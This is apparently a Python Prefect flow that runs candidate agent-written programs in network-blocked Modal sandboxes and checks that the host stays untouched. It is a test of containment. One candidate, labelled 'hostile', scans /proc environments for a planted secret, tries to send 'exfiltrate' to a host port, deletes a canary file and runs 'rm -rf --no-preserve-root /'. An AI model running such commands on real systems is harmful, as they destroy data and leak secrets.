"""A code-interpreter agent's loop, without the LLM: run candidate programs in sandboxes.

    python flows/code_interpreter.py

An agent that writes code needs somewhere to run it that it cannot harm.
This flow prepares a sandbox once (a workspace with input data and a small
checker), snapshots it, then evaluates fixed candidate programs in parallel,
each in its own session restored from the snapshot with no network.  One
candidate is hostile: it deletes `/`, reads every process's environment
looking for the flow's secret, and tries to reach a port on the host.  The
flow reports each candidate's output and exit code, then shows the host
untouched: its canary file is intact, the secret appeared in no output, the
port was never reached.

Without Modal credentials the sandboxes are containers of the local Modal
server; with `modal token new` done, they run on Modal, unchanged.
"""

from __future__ import annotations

import hashlib
import os
import secrets
import socket
import tempfile
import threading
from pathlib import Path
from typing import Any

if __name__ == "__main__" and "PREFECT_API_URL" not in os.environ:
    # A first temporary Prefect server migrates a new database: give it time.
    os.environ.setdefault("PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS", "120")

from prefect import flow, task, unmapped
from prefect.artifacts import create_table_artifact

from prefect_modal import SandboxSession, SandboxSnapshot, SandboxSpec

WORKSPACE = "/workspace"

#: What every evaluation sandbox starts with: data and a checker the candidates use.
CHECKER = """
import json, sys

def report(name, value):
    print(json.dumps({"candidate": name, "value": value}))
"""

#: The programs an agent might have written.  Standard library only.
CANDIDATES: dict[str, str] = {
    "sum_numbers": """
import sys
sys.path.insert(0, "/workspace")
from checker import report
numbers = [int(line) for line in open("/workspace/data/numbers.txt")]
report("sum_numbers", sum(numbers))
""",
    "word_count": """
import collections, sys
sys.path.insert(0, "/workspace")
from checker import report
words = open("/workspace/data/text.txt").read().split()
report("word_count", collections.Counter(words).most_common(2))
""",
    "crashes": """
numbers = [int(line) for line in open("/workspace/data/numbers.txt")]
print("about to divide by", len(numbers) - len(numbers))
print(sum(numbers) / (len(numbers) - len(numbers)))
""",
    "hostile": """
import glob, os, socket, subprocess
secret = "__SECRET__"
found = []
for p in glob.glob("/proc/*/environ"):
    try:
        if secret.encode() in open(p, "rb").read():
            found.append(p)
    except OSError:  # closed to it: the container's init (pid 1) is not dumpable
        pass
print("processes seen:", sorted(int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")))
print("secret found in:", found or "no process")
try:
    socket.create_connection(("127.0.0.1", __PORT__), timeout=3).sendall(b"exfiltrate")
    print("network: reached the host")
except OSError as exc:
    print("network: refused,", type(exc).__name__)
try:
    os.remove("__CANARY__")
    print("canary: deleted")
except OSError as exc:
    print("canary: not reachable,", type(exc).__name__)
subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], capture_output=True)
print("after rm -rf /: / holds", os.listdir("/"))
""",
}

SPEC = SandboxSpec(cpu=0.5, memory="512MiB", timeout=900)


@task
def prepare_workspace(spec: SandboxSpec) -> SandboxSnapshot:
    """Set the sandbox up once (files, a check that Python runs), then snapshot it."""
    with SandboxSession.create(spec) as session:
        session.write_text(f"{WORKSPACE}/checker.py", CHECKER)
        session.write_text(f"{WORKSPACE}/data/numbers.txt", "\n".join(map(str, range(1, 101))))
        session.write_text(f"{WORKSPACE}/data/text.txt", "to be or not to be that is the question")
        session.exec("python", "-c", "import checker; print('workspace ready')", workdir=WORKSPACE)
        return session.snapshot()


@task
def evaluate(snapshot: SandboxSnapshot, name: str, source: str) -> dict[str, Any]:
    """Run one candidate in its own session from the snapshot, with no network."""
    with SandboxSession.restore(snapshot, block_network=True) as session:
        path = f"{WORKSPACE}/candidates/{name}.py"
        session.write_text(path, source)
        result = session.exec("python", path, workdir=WORKSPACE, timeout=120)
    return {
        "candidate": name,
        "exit_code": result.returncode,
        "stdout": result.stdout.strip()[-400:],
        "stderr": (result.stderr.strip().splitlines() or [""])[-1],
        "seconds": round(result.seconds, 2),
    }


class HostCanary:
    """What the hostile candidate goes after on the host, and how to tell it was spared."""

    def __init__(self) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix="code-interpreter-canary-"))
        self.file = self.dir / "canary.txt"
        self.file.write_text("alive")
        self.secret = "ci-secret-" + secrets.token_hex(8)
        os.environ["CODE_INTERPRETER_HOST_SECRET"] = self.secret  # in the flow's process
        self.hosts_digest = _digest(Path("/etc/hosts"))
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.port = self.listener.getsockname()[1]
        self.connections: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            with conn:
                self.connections.append(conn.recv(100) or b"(connected)")

    def program(self, source: str) -> str:
        return (
            source.replace("__SECRET__", self.secret)
            .replace("__PORT__", str(self.port))
            .replace("__CANARY__", str(self.file))
        )

    def verdict(self, outputs: list[dict[str, Any]]) -> dict[str, bool]:
        shown = " ".join(f"{o['stdout']} {o['stderr']}" for o in outputs)
        checks = {
            "canary file intact": self.file.exists() and self.file.read_text() == "alive",
            "/etc/hosts unchanged": _digest(Path("/etc/hosts")) == self.hosts_digest,
            "secret in no output": self.secret not in shown,
            "host port never reached": not self.connections,
        }
        self.listener.close()
        os.environ.pop("CODE_INTERPRETER_HOST_SECRET", None)
        return checks


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "-"


@flow(log_prints=True)
def code_interpreter(spec: SandboxSpec | None = None) -> dict[str, Any]:
    canary = HostCanary()
    snapshot = prepare_workspace(spec or SPEC)
    names = list(CANDIDATES)
    sources = [canary.program(CANDIDATES[name]) for name in names]
    outputs = [f.result() for f in evaluate.map(unmapped(snapshot), names, sources)]
    host = canary.verdict(outputs)
    for out in outputs:
        print(f"{out['candidate']}: exit {out['exit_code']}: {out['stdout'] or out['stderr']}")
    print("host untouched:", all(host.values()), host)
    create_table_artifact(
        key="code-interpreter-results",
        table=[{k: str(v) for k, v in out.items()} for out in outputs],
        description="Candidate programs, each in a session restored from one snapshot, "
        f"without network. Host untouched: {all(host.values())} ({host}).",
    )
    return {"results": outputs, "host": host, "host_untouched": all(host.values())}


if __name__ == "__main__":
    report = code_interpreter()
    raise SystemExit(0 if report["host_untouched"] else 1)
